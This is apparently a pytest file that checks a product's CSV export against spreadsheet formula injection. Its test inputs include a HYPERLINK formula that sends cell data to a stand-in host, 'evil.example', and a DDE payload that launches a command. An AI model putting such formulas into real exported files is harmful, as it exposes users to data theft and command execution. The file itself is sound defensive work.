"""Every CSV the product writes is safe to open in a spreadsheet (OWASP, CSV injection): a
cell that starts with = + - @, a tab or a carriage return is written with a leading
apostrophe so it shows as text and never runs; numbers stay numbers."""
import csv
import io

import pytest

from bnpl import spreadsheet


@pytest.mark.parametrize("raw", [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")', "+31 6 12345678", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", " =1+1", "=cmd|' /C calc'!A0",
])
def test_a_cell_that_a_spreadsheet_would_run_is_written_as_text(raw):
    assert spreadsheet.cell(raw) == "'" + raw


@pytest.mark.parametrize("value", ["Sanne de Vries", "3511 AB", "-5", "-0.05", "+12.50", 1999, -5, None, "", "a=b"])
def test_plain_values_and_numbers_are_left_alone(value):
    assert spreadsheet.cell(value) == value


def test_the_writers_neutralise_every_cell_and_quote_as_csv_does():
    out = io.StringIO()
    writer = spreadsheet.writer(out)
    writer.writerow(["=1+1", 'say "hi", then', -5])
    dict_writer = spreadsheet.dict_writer(out, fieldnames=["name", "amount"])
    dict_writer.writerow({"name": "@evil", "amount": "-0.05"})
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'=1+1", 'say "hi", then', "-5"], ["'@evil", "-0.05"]]


def test_no_module_writes_csv_past_the_safe_writers():
    from pathlib import Path

    root = Path(spreadsheet.__file__).parent
    unsafe = [str(path.relative_to(root)) for path in root.rglob("*.py")
              if path.name != "spreadsheet.py" and any(name in path.read_text(encoding="utf-8")
                                                       for name in ("csv.writer", "csv.DictWriter", "import csv"))]
    assert unsafe == []
